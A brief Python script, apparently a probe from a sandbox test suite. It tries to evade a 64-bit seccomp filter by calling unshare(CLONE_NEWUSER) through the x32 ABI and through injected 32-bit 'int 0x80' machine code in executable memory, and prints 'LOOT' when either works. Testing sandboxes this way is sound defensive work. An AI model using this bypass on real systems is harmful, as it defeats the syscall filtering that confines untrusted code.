"""Makes 32-bit and x32 system calls, which a filter for 64 bits may not see."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
if os.uname().machine == "x86_64":
    child = os.fork()
    if child == 0:
        os._exit(7 if libc.syscall(0x40000000 + 272, 0x10000000) == 0 else 0)  # x32 unshare
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        print("LOOT x32")
    child = os.fork()
    if child == 0:
        rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=rights)
        # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
        code.write(b"\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        os._exit(7 if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0 else 0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        print("LOOT int 0x80")
print("tried")
